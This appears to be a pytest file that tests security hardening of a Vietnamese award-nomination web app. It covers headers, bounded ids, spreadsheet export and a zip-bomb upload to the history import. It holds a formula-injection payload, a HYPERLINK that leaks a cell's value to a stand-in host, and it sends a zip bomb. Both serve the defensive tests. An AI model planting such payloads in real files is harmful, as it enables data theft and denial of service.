"""Issue 15 on a real server started as `make run` starts it (gunicorn with the repository's
gunicorn.conf.py, TDKT_HTTPS=1 as behind the README's reverse proxy): the headers of item 11,
bounded ids (item 6), a board spreadsheet with a formula title and a control character
already stored (items 2 and 3), a zip bomb sent to the history import (item 8) and the
history paged (item 10)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, text
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from tests.support.accounts import PASSWORD
from tests.support.live_web import fetch, live_server, web_login
from tests.support.spreadsheets import zip_bomb

LEAK = '=HYPERLINK("http://x/?leak="&C5,"a")'


@pytest.fixture(scope="module")
def server(databases, template_db, tmp_path_factory):
    # TDKT_HTTPS=1 as behind the README's reverse proxy
    with live_server(
        databases, template_db, tmp_path_factory.mktemp("hardening"), env={"TDKT_HTTPS": "1"}
    ) as live:
        yield live


def test_headers_of_a_server_behind_https(server):
    cookie = web_login(server, "vanthu.cntt")
    response, _ = fetch(server, "GET", "/", headers={"Cookie": cookie})
    assert response.status == 200
    assert response.getheader("Server") is None, "gunicorn announced itself"
    assert response.getheader("Strict-Transport-Security") == "max-age=31536000"
    assert response.getheader("Cache-Control") == "no-store"
    token = server.token("vanthu.cntt", PASSWORD)
    response, _ = fetch(
        server, "GET", "/api/v1/proposals", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.getheader("Cache-Control") == "no-store"
    assert response.getheader("Server") is None
    # Stylesheets are the same for everyone and may be cached.
    response, _ = fetch(server, "GET", "/static/tdkt.css")
    assert response.getheader("Cache-Control") != "no-store"


def test_huge_and_odd_ids_are_not_found(server):
    cookie = web_login(server, "vanthu.cntt")
    for path in (
        "/proposals/99999999999999999999",
        "/proposals/%C2%B2/edit",
        "/tasks/99999999999999999999",
        "/attachments/99999999999999999999",
    ):
        response, _ = fetch(server, "GET", path, headers={"Cookie": cookie})
        assert response.status == 404, path
    response, _ = fetch(
        server, "GET", "/board/?page=99999999999999999999", headers={"Cookie": cookie}
    )
    assert response.status == 400


def test_board_spreadsheet_keeps_a_formula_as_text_and_survives_a_stored_control(server):
    token = server.token("vanthu.cntt", PASSWORD)
    body = {"award_code": "LDTT", "year": 2025, "title": LEAK, "summary": "Tóm tắt",
            "nominees": [{"name": "=1+1"}]}  # fmt: skip
    status, created = server.request("POST", "/api/v1/proposals", body, token=token)
    assert status == 201, created
    status, other = server.request(
        "POST", "/api/v1/proposals", {**body, "title": "Sạch"}, token=token
    )
    assert status == 201
    engine = create_engine(server.database_url)
    with engine.begin() as conn:  # as a row stored before the rule would be
        conn.execute(
            text("UPDATE proposal SET title = 'Hỏng\x01' WHERE id = :id"), {"id": other["id"]}
        )
    engine.dispose()
    cookie = web_login(server, "theodoi.btdkt")
    for path in ("/board/export.xlsx", "/dashboard/export.xlsx"):
        response, data = fetch(server, "GET", path, headers={"Cookie": cookie})
        assert response.status == 200, path
        assert response.getheader("Cache-Control") == "no-store"
        book = load_workbook(io.BytesIO(data))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
    response, data = fetch(server, "GET", "/board/export.xlsx", headers={"Cookie": cookie})
    values = [
        v for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for v in row
    ]
    assert LEAK in values and "Hỏng\ufffd" in values


def peak_mb(pid: int) -> int:
    """The most memory a process has held (VmHWM), in MB."""
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1)) // 1024


def workers_of(server) -> list[int]:
    pid = server.process.pid
    return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def test_a_zip_bomb_sent_to_the_history_import_is_refused_and_the_worker_stays_small(server):
    cookie = web_login(server, "thuongtruc.tttt")  # the department's secretariat imports
    response, page = fetch(server, "GET", "/history/import", headers={"Cookie": cookie})
    assert response.status == 200
    token = re.search(rb'name="csrf_token"[^>]*value="([^"]+)"', page).group(1).decode()
    fields = MultiDict({"csrf_token": token, "kind": "history"})
    fields.add("file", FileStorage(io.BytesIO(zip_bomb()), filename="lich-su.xlsx"))
    boundary, body = encode_multipart(fields)
    headers = {"Cookie": cookie, "Content-Type": f"multipart/form-data; boundary={boundary}"}
    response, page = fetch(server, "POST", "/history/import", body, headers)
    assert response.status == 400, page[:500]
    assert "giải nén ra quá 40 MB" in page.decode()
    [worker] = workers_of(server)
    assert peak_mb(worker) < 300, peak_mb(worker)


def test_the_history_is_paged(server):
    nominator = server.token("vanthu.cntt", PASSWORD)
    head = server.token("truongphong.cntt", PASSWORD)
    body = {"award_code": "LDTT", "year": 2025, "title": "Trả nhiều lần", "summary": "Tóm tắt",
            "nominees": [{"name": "Nguyễn Văn An"}]}  # fmt: skip
    status, created = server.request("POST", "/api/v1/proposals", body, token=nominator)
    pid = created["id"]
    server.complete_dossier(pid, nominator)  # submitting needs the dossier's documents
    for _ in range(3):
        assert (
            server.request("POST", f"/api/v1/proposals/{pid}/submit", {}, token=nominator)[0] == 200
        )
        status, tasks = server.request("GET", f"/api/v1/tasks?proposal_id={pid}", token=head)
        [task] = tasks
        done = {"action": "return", "comment": "Bổ sung"}
        assert (
            server.request("POST", f"/api/v1/tasks/{task['id']}/complete", done, token=head)[0]
            == 200
        )
    status, page = server.request(
        "GET", f"/api/v1/proposals/{pid}/history?limit=2", token=nominator
    )
    assert status == 200
    assert (page["total"], page["rounds"], page["older_offset"]) == (4, [4, 3], 2)
